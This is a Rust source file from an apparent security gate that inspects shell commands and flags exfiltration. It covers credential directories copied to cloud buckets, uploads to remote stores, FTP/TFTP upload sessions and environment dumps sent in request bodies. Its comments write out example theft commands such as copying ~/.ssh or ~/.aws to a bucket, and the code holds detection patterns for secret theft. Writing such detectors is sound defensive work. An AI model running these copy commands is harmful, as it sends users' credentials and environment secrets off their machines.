//! A secret named beside a remote store's URL (`gsutil cp -r ~/.ssh
//! gs://b/`, `rclone copy ~/.aws s3://b`, `s5cmd cp ~/.kube/config s3://b/`):
//! whatever the program, a command that names both copies the secret off
//! the machine (`agentgate_commands::REMOTE_STORES`). And whether a
//! request body is the environment (`names_environment`).

use super::*;

impl Walker<'_> {
    pub(super) fn copy_to_store(&mut self, site: Site<'_>, name: &str, rest: &[Arg<'_>]) {
        let Some((url, store)) = rest.iter().find_map(|a| {
            let v = a.v();
            let v = split_key(v).unwrap_or(v);
            agentgate_commands::remote_store(v).map(|r| (v.to_owned(), r))
        }) else {
            return;
        };
        // The last operand is where a copy goes: after a store's URL it is
        // the destination of a download (`gsutil cp gs://b/x ~/`).
        let operands: Vec<&str> = rest
            .iter()
            .map(|a| a.v())
            .filter(|v| !v.starts_with('-'))
            .collect();
        let download_into = match operands.split_last() {
            Some((last, before)) if !is_store(last) && before.iter().any(|v| is_store(v)) => {
                Some(*last)
            }
            _ => None,
        };
        self.upload_to_store(site, name, &operands, rest, store);
        for a in rest {
            let v = a.v();
            if is_store(v) || Some(v) == download_into {
                continue;
            }
            for abs in self.arg_paths(a) {
                let what = paths::credential(&abs)
                    .map(|(_, w)| w)
                    .or_else(|| paths::credential_dir(&abs))
                    .or_else(|| (abs == self.ctx.home).then_some("the home directory"));
                if let Some(what) = what {
                    self.out.effects.egress = true;
                    self.out.effects.secret_access = true;
                    self.find(
                        Exfil,
                        Critical,
                        format!("{name} copies {what} ({abs}) to {} ({url})", store.what),
                        &site.cmd.text,
                    );
                    return;
                }
            }
        }
    }

    /// A copy tool's upload (`gsutil cp -r ./conf gs://b/`, `aws s3 sync .
    /// s3://b/`): one of its first words a copy verb
    /// (`agentgate_commands::STORE_COPY_VERBS`), its last operand a remote
    /// store's URL and a local path before it. Not a dry run, not a
    /// program whose words are text (`echo cp x gs://b`).
    fn upload_to_store(
        &mut self,
        site: Site<'_>,
        name: &str,
        operands: &[&str],
        rest: &[Arg<'_>],
        store: &agentgate_commands::RemoteStore,
    ) {
        if agentgate_commands::verb_exempt(name) {
            return;
        }
        let Some(at) = operands
            .iter()
            .take(3)
            .position(|v| agentgate_commands::STORE_COPY_VERBS.contains(v))
        else {
            return;
        };
        let verb = operands.get(at).copied().unwrap_or("");
        // Values of long options after the destination are no operands
        // (`aws s3 sync dir s3://b --exclude *.tmp`: devhints part 1).
        let mut places = operands.get(at + 1..).unwrap_or_default();
        while let Some((last, init)) = places.split_last() {
            let valued = !is_store(last)
                && rest
                    .iter()
                    .rposition(|a| a.v() == *last)
                    .and_then(|i| i.checked_sub(1))
                    .and_then(|p| rest.get(p))
                    .is_some_and(|p| p.v().starts_with("--") && !p.v().contains('='));
            if !valued {
                break;
            }
            places = init;
        }
        let Some((last, sources)) = places.split_last() else {
            return;
        };
        // `-n` right after an option that takes a value is that value
        // (`agentgate_commands::STORE_VALUE_LETTERS`).
        let dry = rest.iter().enumerate().any(|(i, a)| {
            let after_value_option = i.checked_sub(1).and_then(|p| rest.get(p)).is_some_and(|p| {
                let p = p.v();
                p.starts_with('-')
                    && !p.starts_with("--")
                    && p.ends_with(agentgate_commands::STORE_VALUE_LETTERS)
            });
            agentgate_commands::STORE_DRY_RUN.contains(&a.v())
                || (matches!(verb, "sync" | "rsync") && a.v() == "-n" && !after_value_option)
        });
        if dry || !is_store(last) || !sources.iter().any(|v| !is_store(v)) {
            return;
        }
        // High, as `rclone copy ./dist remote:b` (session 10): what leaves
        // is not known, and the line does not show whose bucket it is (a
        // secret among the files is critical, above).
        self.out.effects.egress = true;
        self.find(
            Exfil,
            High,
            format!(
                "uploads local files to {} ({name} {})",
                store.what,
                operands.get(..=at).unwrap_or_default().join(" ")
            ),
            &site.cmd.text,
        );
    }
}

/// Whether a word (or a `KEY=VALUE` word's value) is a remote store's URL.
fn is_store(v: &str) -> bool {
    agentgate_commands::remote_store(split_key(v).unwrap_or(v)).is_some()
}

/// The first word of `vals` that is neither an option nor the value of one
/// of `takes_value` (the host of `tftp -g -r FILE HOST`, `lftp -u U,P HOST`).
fn first_operand<'a>(vals: &[&'a str], takes_value: &[&str]) -> &'a str {
    vals.iter()
        .enumerate()
        .find(|(i, v)| {
            let a_value = i
                .checked_sub(1)
                .and_then(|j| vals.get(j))
                .is_some_and(|o| takes_value.contains(o));
            !v.starts_with('-') && !a_value
        })
        .map_or("", |(_, v)| *v)
}

/// lftp's options that take a value (man:lftp(1)).
const LFTP_VALUES: &[&str] = &[
    "-e",
    "-c",
    "-f",
    "-u",
    "-p",
    "--user",
    "--password",
    "--env-password",
];

impl Walker<'_> {
    /// An FTP or TFTP client (`ftp HOST`, `lftp HOST`, busybox `tftp -p`):
    /// a session to another host can upload files.
    pub(super) fn ftp_session(
        &mut self,
        site: Site<'_>,
        name: &str,
        vals: &[&str],
        operands: &[&str],
    ) {
        let text = &site.cmd.text;
        self.out.effects.egress = true;
        // busybox tftp: `-g` gets, `-p` puts, `-l LOCAL`, `-r
        // REMOTE` and `-b SIZE` take values (`tftp -g -r FILE HOST`
        // downloads: lcmdf's false deny, session 30).
        let busybox = name == "tftp" && vals.iter().any(|v| matches!(*v, "-g" | "-p"));
        let host = if busybox {
            first_operand(vals, &["-l", "-r", "-b"])
        } else if name == "lftp" {
            // lftp's options with a value: commands (`-e`, `-c`), a
            // script file (`-f`), a login (`-u USER,PASS`), a port.
            first_operand(vals, LFTP_VALUES)
        } else {
            operands.first().copied().unwrap_or("")
        };
        // Windows's and tftp-hpa's one-shot transfers: `tftp -i
        // HOST get FILE`, `tftp HOST -c get FILE` (htmac's false
        // deny, session 33); `put` sends.
        let one_shot = |verb: &str| {
            operands
                .get(1)
                .is_some_and(|v| v.eq_ignore_ascii_case(verb))
                || vals.windows(2).any(|w| {
                    w.first() == Some(&"-c")
                        && w.get(1).is_some_and(|v| v.eq_ignore_ascii_case(verb))
                })
        };
        let gets_only = busybox && !vals.contains(&"-p")
            || name == "tftp" && one_shot("get") && !one_shot("put");
        // What the session is told to do: a script on its input
        // (`ftp -n HOST <<EOF ... put FILE`) is read for uploads; an
        // input the line does not show may send anything; with no
        // input it is a session for a human (`ftp HOST`, asked, as
        // htnet's false denies showed, session 35).
        // lftp's `-e`/`-c` commands are such a script too, `-f FILE` one
        // the line does not show.
        let given = (name == "lftp")
            .then(|| {
                vals.windows(2).find_map(|w| match w {
                    ["-e" | "-c", cmds] => Some(cmds.replace(';', "\n")),
                    _ => None,
                })
            })
            .flatten();
        let input = site
            .cmd
            .redirects
            .iter()
            .find_map(|r| r.input_text.clone())
            .or(given);
        let input = input.as_deref();
        let piped = site.cmd.pipeline.index > 0
            || site
                .cmd
                .redirects
                .iter()
                .any(|r| r.kind == RedirectKind::Read)
            || name == "lftp" && vals.contains(&"-f");
        let uploads = input.is_some_and(|t| {
            t.lines().any(|l| {
                let verb = l
                    .split_whitespace()
                    .next()
                    .unwrap_or("")
                    .to_ascii_lowercase();
                matches!(verb.as_str(), "put" | "mput" | "append" | "send" | "mirror")
            })
        });
        let interactive = input.is_none() && !piped;
        // `lftp sftp://user@host`, `ftp user@host`: the host itself.
        let host_name = if host.contains("://") {
            net::host_of(host).unwrap_or(host)
        } else {
            host.rsplit('@').next().unwrap_or(host)
        };
        let class = net::classify(host_name);
        if class != HostClass::Local
            && !gets_only
            && !host.is_empty()
            && (uploads || piped && input.is_none() || interactive)
        {
            let sev = if class == HostClass::Suspicious {
                Critical
            } else if interactive {
                Medium
            } else {
                High
            };
            self.find(
                Exfil,
                sev,
                format!("opens a {name} session to {host}, which can upload files"),
                text,
            );
        }
    }
}

/// Whether a request body `d` is the environment: the output of `env` or
/// `printenv` substituted into it (`-d "$(env)"`, `` -d "`printenv`" ``)
/// or a process's environ file (`@/proc/self/environ`); a `.env` file is
/// `paths::credential`'s. The letters alone are not: a GraphQL query's
/// `environmentId` or a form's `inventory=12` (hostdocs part 0, session
/// 62: denied as the environment uploaded).
pub(super) fn names_environment(d: &str) -> bool {
    let starts = d
        .match_indices("$(")
        .map(|(i, _)| i + 2)
        .chain(d.match_indices('`').map(|(i, _)| i + 1));
    d.contains("/environ")
        || starts.into_iter().any(|s| {
            let rest = d.get(s..).unwrap_or("").trim_start();
            let word: String = rest
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '/' | '.'))
                .collect();
            let program = word.rsplit('/').next().unwrap_or(&word);
            matches!(program, "env" | "printenv")
        })
}
